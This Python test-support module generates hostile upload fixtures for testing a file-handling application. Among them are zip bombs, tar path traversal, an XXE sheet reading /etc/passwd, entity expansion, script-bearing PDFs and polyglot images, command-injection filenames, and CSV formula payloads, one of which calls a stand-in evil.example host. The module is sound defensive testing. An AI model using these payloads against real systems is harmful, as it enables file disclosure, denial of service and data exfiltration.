"""More files that mean harm, small and made here: archives, polyglots, documents with scripts, names."""

from __future__ import annotations

import io
import sqlite3
import struct
import tarfile
import zipfile
from functools import cache
from pathlib import Path

from PIL import Image

from tests.support import hostile

FORMULA = ('=HYPERLINK("http://evil.example/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;1)", "\t=1+1")
#: Where names in an archive lead that climb out of its folder: a place that everybody may write to.
OUTSIDE = "/" + "tmp" + "/rawat-was-here"
UPWARDS = "../../../.." + OUTSIDE
SCRIPT = b"<script>alert(1)</script>"


def _locked() -> bytes:
    """A workbook whose parts say that they are encrypted."""
    content = bytearray(hostile.workbook(hostile.sheet(hostile.LIST)))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def _matryoshka(depth: int = 6) -> bytes:
    content = b"0" * 1_000_000
    for number in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
            for each in range(6):
                file.writestr(f"{number}-{each}.zip", content)
        content = out.getvalue()
    return content


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as file:
        entry = tarfile.TarInfo(UPWARDS)
        entry.size = 4
        file.addfile(entry, io.BytesIO(b"here"))
    return out.getvalue()


def _outside() -> str:
    """A sheet that wants a file of this machine."""
    return hostile.sheet(hostile.cells(["code", "name"], ["&x;", "b"]),
                         '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


@cache
def tables() -> dict[str, bytes]:
    """Lists that none may take, beside those of `hostile.tables()`."""
    wide = "".join('<c t="inlineStr"><is><t>a</t></is></c>' for _ in range(300))
    return hostile.tables() | {
        "a million columns": b",".join([b"c"] * 1_000_000),
        "a column a million away": hostile.workbook(hostile.sheet(
            hostile.LIST + '<row r="2"><c r="BDWGN2"><v>1</v></c></row>')),
        "columns without a place": hostile.workbook(hostile.sheet(f'<row r="1">{wide}</row>')),
        "one line of five megabytes": b"a" * (5 * 1024 * 1024),
        "half a quote": b'"' * 1_000_001,
        "a file of this machine": hostile.workbook(_outside()),
        "quadratic": hostile.workbook(hostile.sheet(
            hostile.cells(["code", "name"], ["&a;" * 2000, "b"]),
            f'<!DOCTYPE worksheet [<!ENTITY a "{"a" * 10_000}">]>')),
        "encrypted": _locked(), "an archive in an archive": _matryoshka(), "a tar": _tar(),
        "a PDF": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        "a web page": b"<!doctype html>" + SCRIPT, "a programme": b"MZ" + bytes(200),
        "two parts of one name": _twice(),
        "deep": hostile.workbook(hostile.sheet("<row>" * 100_000)),
    }


def _twice() -> bytes:
    good = zipfile.ZipFile(io.BytesIO(hostile.workbook(hostile.sheet(hostile.LIST))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for part in good.infolist():
            for name in (part.filename, part.filename.upper()):
                file.writestr(name, good.read(part))
    return out.getvalue()


def odd_tables() -> dict[str, bytes]:
    """Lists that may be taken, for what else lies in them is never looked at."""
    good = hostile.sheet(hostile.LIST)
    return {
        "macros": hostile.workbook(good, xl__vbaProject_xml=b"\xd0\xcf\x11\xe0" * 400),
        "names outside": hostile.packed({
            **{part: zipfile.ZipFile(io.BytesIO(hostile.workbook(good))).read(part)
               for part in ("[Content_Types].xml", "_rels/.rels", "xl/workbook.xml",
                            "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml")},
            UPWARDS: b"here", OUTSIDE: b"here",
            "C:\\rawat-was-here": b"here"}),
        "behind a workbook": hostile.workbook(good) + SCRIPT,
    }


# ---------------------------------------------------------------- pictures and other files

def _crc() -> bytes:
    content = bytearray(hostile.picture("PNG"))
    content[-20] ^= 0xFF
    return bytes(content)


@cache
def pictures() -> dict[str, bytes]:
    """Files that no door for pictures may keep, beside those of `hostile.pictures()`."""
    webp = hostile.picture("WEBP", lossless=True)
    return hostile.pictures() | {
        "SVG with its head": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT,
        "SVG under a mark": b"\xef\xbb\xbf<svg/onload=alert(1)>",
        "HEIC without a picture": b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + bytes(300),
        "HEIC that never ends": b"\0\0\0\x18ftypheic\0\0\0\0heicmif1\xff\xff\xff\xffmeta" + bytes(64),
        "WebP of 16,383 points square": webp[:21] + struct.pack("<I", 0x0FFFFFFF) + webp[25:],
        "AVIF": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + bytes(100),
        "PNG with a wrong sum": _crc(),
        "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd)(r)file",
        "ICO": b"\0\0\1\0\1\0" + bytes(16), "PSD": b"8BPS\0\1" + bytes(40),
        "a workbook": hostile.workbook(hostile.sheet(hostile.LIST)), "an archive": _matryoshka(2),
        "a tar": _tar(), "a programme": b"\x7fELF" + bytes(200),
        "sound": b"RIFF\x24\0\0\0WAVEfmt " + bytes(40), "a web page": b"<!doctype html>" + SCRIPT,
        "a database": database(), "old document": b"\xd0\xcf\x11\xe0" + bytes(600),
        "first bytes alone": b"\xff\xd8\xff", "PNG of no lines": hostile.png(0, 0),
    }


def polyglots() -> dict[str, bytes]:
    """Pictures that are something else as well: kept as the picture alone."""
    jpeg = hostile.picture()
    exif = Image.Exif()
    exif[0x010E] = SCRIPT.decode()
    return {
        "JPEG and archive": jpeg + hostile.packed({"a.html": SCRIPT}), "JPEG and page": jpeg + SCRIPT,
        "JPEG with a comment": hostile.picture(comment=SCRIPT), "JPEG with EXIF": hostile.picture(exif=exif),
        "PNG and page": hostile.picture("PNG") + SCRIPT,
        "PNG with text": hostile.picture("PNG")[:33] + hostile.chunk(b"tEXt", b"a\0" + SCRIPT)
        + hostile.picture("PNG")[33:],
        "WebP and page": hostile.picture("WEBP") + SCRIPT,
    }


def papers() -> dict[str, bytes]:
    """PDFs that are kept unopened and only ever given out as a download."""
    return {
        "with a script": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
        "and page": b"%PDF-1.4\n" + SCRIPT, "and archive": b"%PDF-1.4\n" + hostile.packed({"a": b"b"}),
        "encrypted": b"%PDF-1.7\n1 0 obj<</Filter/Standard/V 5/R 6>>endobj\ntrailer<</Encrypt 1 0 R>>%%EOF",
        "bomb": b"%PDF-1.7\n1 0 obj<</Length 9999999999/Filter/FlateDecode>>stream\n" + bytes(1000),
        "truncated": b"%PDF-",
    }


#: Names as browsers, telephones and attackers send them; what is kept is one plain name.
NAMES = ("../../etc/passwd", "..\\..\\boot.ini", "/etc/cron.d/x", "C:\\Windows\\a.jpg", "a\0.jpg", "..",
         ".", " ", "CON.jpg", ".htaccess", "a" * 3000 + ".jpg", "\u202egpj.exe", "foto\r\nX-Header: 1.jpg",
         '"><script>alert(1)</script>.jpg', "=1+1.jpg", "фото 😀.jpg", "a.jpg/", "a.php.jpg",
         "%2e%2e%2fa.jpg", "a;b=c.jpg", "~root", "|id", "$(id).jpg", "-rf.jpg", "NUL", "a.jpg::$DATA")


# ---------------------------------------------------------------- for commands

def database(folder: Path | None = None) -> bytes:
    """A database of SQLite that is no hospital."""
    connection = sqlite3.connect(":memory:")
    connection.executescript("CREATE TABLE alembic_version (version_num); CREATE TABLE user (a);"
                             "INSERT INTO alembic_version VALUES ('0001')")
    return connection.serialize()


def files_for_commands() -> dict[str, bytes]:
    """What an operator may name by mistake, or was sent by somebody."""
    whole = database()
    return {
        "nothing": b"", "text": b"no database at all\n" * 500, "binary": bytes(range(256)) * 40,
        "another's database": whole, "half a database": whole[:len(whole) // 2],
        "a database with a broken page": whole[:5000] + bytes(400) + whole[5400:],
        "first bytes of a dump": b"PGDMP\x01\x0e\0" + bytes(400), "deep JSON": b"[" * 9_000,
        "wide JSON": b'{"last_id": ' + b"9" * 5000 + b"}", "JSON of another kind": b'{"at": 7, "root": []}',
        "a list": b"[1, 2, 3]", "no UTF-8": b"\xff\xfe{}", "a workbook": hostile.killing()["single quotes"],
    }
